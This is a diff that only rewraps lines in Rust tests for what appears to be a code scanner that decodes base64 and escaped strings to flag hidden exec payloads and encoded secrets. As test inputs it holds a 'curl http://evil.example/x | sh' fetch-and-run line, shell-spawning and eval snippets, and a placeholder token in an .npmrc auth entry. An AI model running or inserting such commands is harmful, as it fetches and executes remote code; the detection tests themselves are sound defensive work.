@@ -14,7 +14,10 @@ fn b64(text: &str) -> String {
     let bytes = text.as_bytes();
     let mut out = String::new();
     for chunk in bytes.chunks(3) {
-        let n = chunk.iter().enumerate().fold(0u32, |n, (i, &b)| n | (b as u32) << (16 - 8 * i));
+        let n = chunk
+            .iter()
+            .enumerate()
+            .fold(0u32, |n, (i, &b)| n | (b as u32) << (16 - 8 * i));
         for i in 0..=chunk.len() {
             out.push(ALPHABET[(n >> (18 - 6 * i) & 63) as usize] as char);
         }
@@ -46,7 +49,10 @@ fn ids(findings: &[Finding]) -> Vec<&str> {
 #[test]
 fn each_codec_decodes_its_spans() {
     let line = format!("x = \"{}\"", b64("curl http://evil.example/x | sh"));
-    assert_eq!(spans(&line), vec![(Codec::Base64, "curl http://evil.example/x | sh".to_string())]);
+    assert_eq!(
+        spans(&line),
+        vec![(Codec::Base64, "curl http://evil.example/x | sh".to_string())]
+    );
     assert_eq!(
         spans(r#"s = "\x68\x74\x74\x70\x73\x3a\x2f\x2fa.b""#),
         vec![(Codec::Escapes, "https://a.b".to_string())]
@@ -57,7 +63,10 @@ fn each_codec_decodes_its_spans() {
     );
     assert_eq!(
         spans(r#"s = "\143\150\151\154\144""#),
-        vec![(Codec::Escapes, "child".to_string())].into_iter().filter(|_| false).collect::<Vec<_>>(),
+        vec![(Codec::Escapes, "child".to_string())]
+            .into_iter()
+            .filter(|_| false)
+            .collect::<Vec<_>>(),
         "five bytes is below the printable minimum"
     );
     assert_eq!(
@@ -73,8 +82,13 @@ fn each_codec_decodes_its_spans() {
         vec![(Codec::CharCodes, "eval(x)".to_string())]
     );
     // URL-safe base64, unpadded.
-    let url_safe = b64("subprocess.Popen(['sh'])?>").replace('+', "-").replace('/', "_");
-    assert_eq!(spans(&format!("'{}'", url_safe.trim_end_matches('='))).len(), 1);
+    let url_safe = b64("subprocess.Popen(['sh'])?>")
+        .replace('+', "-")
+        .replace('/', "_");
+    assert_eq!(
+        spans(&format!("'{}'", url_safe.trim_end_matches('='))).len(),
+        1
+    );
 }
 
 #[test]
@@ -98,7 +112,11 @@ fn decoding_is_bounded() {
     let huge = "QUFB".repeat(100_000);
     let bytes = codec::base64(huge.as_bytes()).unwrap();
     assert!(bytes.len() <= codec::MAX_DECODED);
-    let span = Span { start: 0, end: huge.len(), codec: Codec::Base64 };
+    let span = Span {
+        start: 0,
+        end: huge.len(),
+        codec: Codec::Base64,
+    };
     assert!(codec::decode(&huge, span).is_some_and(|t| t.len() <= codec::MAX_DECODED));
 }
 
@@ -110,7 +128,11 @@ fn a_base64_exec_payload_is_reviewed_at_its_location() {
     assert!(!found.is_empty(), "{found:#?}");
     for f in &found {
         assert_eq!(f.line, 2);
-        assert!(f.message.contains("base64 text decodes to"), "{}", f.message);
+        assert!(
+            f.message.contains("base64 text decodes to"),
+            "{}",
+            f.message
+        );
     }
     let ids = ids(&found);
     assert!(ids.iter().any(|id| id.starts_with("exec.")), "{ids:?}");
@@ -119,14 +141,21 @@ fn a_base64_exec_payload_is_reviewed_at_its_location() {
 #[test]
 fn an_encoded_secret_is_masked_and_keeps_its_severity() {
     let token = "ghp_R8m2kXqP4vT9wLzN6bY3cJ7dF1hG5sA0eU2i";
-    let text = format!("//registry.npmjs.org/:_auth={}\n", b64(&format!("deploy:{token}")));
+    let text = format!(
+        "//registry.npmjs.org/:_auth={}\n",
+        b64(&format!("deploy:{token}"))
+    );
     let found = review(".npmrc", &text);
     let secret = found
         .iter()
         .find(|f| f.category == Category::Secret)
         .unwrap_or_else(|| panic!("{found:#?}"));
     assert!(!secret.message.contains(token), "{}", secret.message);
-    assert!(!secret.snippet.contains(&b64(&format!("deploy:{token}"))), "{}", secret.snippet);
+    assert!(
+        !secret.snippet.contains(&b64(&format!("deploy:{token}"))),
+        "{}",
+        secret.snippet
+    );
     assert!(secret.message.contains("decodes to"));
 }
 
@@ -146,7 +175,10 @@ fn long_blobs_in_source_are_reported_but_not_in_data_or_tests() {
     let blob = b64(&"console.log('hello world'); ".repeat(60));
     let text = format!("const payload = \"{blob}\";\n");
     assert_eq!(ids(&review("lib/index.js", &text)), vec![BASE64_BLOB]);
-    assert_eq!(review("data/payload.json", &format!("{{\"p\": \"{blob}\"}}\n")), vec![]);
+    assert_eq!(
+        review("data/payload.json", &format!("{{\"p\": \"{blob}\"}}\n")),
+        vec![]
+    );
     assert_eq!(review("test/index.test.js", &text), vec![]);
 }
 
